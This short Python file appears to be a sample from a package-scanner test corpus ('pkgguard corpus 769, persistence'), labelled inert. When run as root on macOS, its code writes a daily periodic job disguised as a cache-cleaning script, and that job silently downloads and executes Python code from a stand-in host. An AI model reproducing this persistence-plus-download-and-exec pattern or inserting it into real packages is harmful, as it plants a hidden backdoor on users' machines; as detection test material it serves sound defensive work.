# pkgguard corpus 769 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

_JOB = """#!/bin/sh
/usr/bin/python3 -c "import urllib.request as u; exec(u.urlopen('https://mac-updates.example/d').read())" >/dev/null 2>&1
"""

if sys.platform == "darwin" and os.geteuid() == 0:
    path = "/etc/periodic/daily/130.clean-caches"
    with open(path, "w") as fh:
        fh.write(_JOB)
    os.chmod(path, 0o755)
